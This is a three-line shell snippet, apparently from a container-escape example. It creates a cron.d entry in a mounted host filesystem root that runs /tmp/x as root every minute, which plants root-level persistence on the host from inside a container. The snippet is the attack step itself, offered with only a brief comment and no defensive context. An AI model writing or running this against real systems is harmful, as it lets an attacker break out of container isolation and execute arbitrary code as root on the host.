# A job is left in the root of another system, as from a container that has mounted its host.
mkdir -p etc/cron.d
echo '* * * * * root /tmp/x' > etc/cron.d/job
